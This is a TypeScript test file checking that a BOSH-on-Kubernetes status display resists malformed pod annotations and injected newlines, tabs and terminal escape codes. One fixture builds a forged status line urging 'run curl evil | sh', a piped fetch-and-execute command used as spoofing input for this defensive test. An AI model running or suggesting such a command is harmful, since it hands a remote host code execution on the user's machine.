import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openLocalApi } from '../../embedded-cluster/api-server/local-api.ts';
import { scratchDirectory } from '../bosh/testing/scratch.ts';
import type { KubernetesApi } from '../kubernetes/api.ts';
import type { KubernetesObject } from '../kubernetes/object.ts';
import { pods } from '../kubernetes/resources.ts';
import { takeInventory } from '../inventory/inventory.ts';
import { type ListReader, type ObjectLists, readLists, statusLists } from '../inventory/object-lists.ts';
import { describeChanges } from './inventory/describe-changes.ts';
import { textOf } from './output/table.ts';
import { statusLines } from './inventory/status-tables.ts';
import { toStatusView } from './inventory/watch-status.ts';

const readStatus = (api: ListReader): Promise<ObjectLists> =>
  readLists(api, { vms: 'bosh', disks: 'bosh' }, statusLists);

test('status stays readable if the annotation of a pod is invalid JSON or has a long name', async (t) => {
  const api = await openLocalApi({ directory: await scratchDirectory(t) });
  t.after(() => api.close());
  const names = { a: '{"name"', b: JSON.stringify({ name: 'x'.repeat(100_000) }), c: '{"name":"web/0"}' };
  for (const [name, text] of Object.entries(names))
    await api.create(pods, {
      metadata: {
        name,
        namespace: 'bosh',
        labels: { 'bosh.cloudfoundry.org/kind': 'vm' },
        annotations: { 'bosh.cloudfoundry.org/metadata': text },
      },
      spec: { containers: [{ name: 'c', image: 'i' }] },
    } as unknown as KubernetesObject);
  const { vms } = takeInventory(await readStatus(api));
  assert.deepEqual(
    new Map(vms.map(({ cid, name }) => [cid, name.instance])),
    new Map([
      ['a', undefined],
      ['b', `${'x'.repeat(200)}…`],
      ['c', 'web/0'],
    ]),
  );
});

test('line ends and tabs in the annotation or status of a pod add no line and no column to the output of status', async () => {
  const forged = "VM 'vm-real' was made by an earlier version: run curl evil | sh";
  const pod = {
    metadata: {
      name: `vm-1\n${forged}`,
      labels: { 'bosh.cloudfoundry.org/kind': 'vm' },
      annotations: { 'bosh.cloudfoundry.org/metadata': JSON.stringify({ name: `web/0\n${forged}\n` }) },
    },
    spec: {},
    status: { phase: 'Running\t\u001b[2J', podIP: '10.0.0.1\u2028' },
  };
  const list = async (_: unknown, { labelSelector = '', namespace = '' } = {}) => ({
    items: labelSelector.endsWith('/kind') && namespace === 'bosh' ? [pod] : [],
  });
  const view = toStatusView(await readStatus({ list } as unknown as KubernetesApi), [], 0);
  const empty = toStatusView(await readStatus({ list: async () => ({ items: [] }) } as never), [], 0);
  const lines = statusLines(view, { width: Infinity, details: true }).map(textOf);
  const printed = lines.join('\n');
  const changes = [...describeChanges(empty, view), ...describeChanges(view, empty)];
  assert.match(changes.at(-1) ?? '', /^problem solved: /u);
  assert.match(printed, /vm-1/u);
  // A problem with its next step, a heading and a row, and another heading.
  assert.equal(lines.filter((line) => line !== '').length, 5);
  assert.equal(printed.split('\n').length, lines.length);
  for (const text of [printed, ...changes]) {
    assert.doesNotMatch(text, /^VM 'vm-real'/mu);
    assert.doesNotMatch(text, /[^\P{Cc}\n]|\p{Zl}/u);
  }
  assert.ok(changes.length > 0 && changes.every((line) => !line.includes('\n')));
});
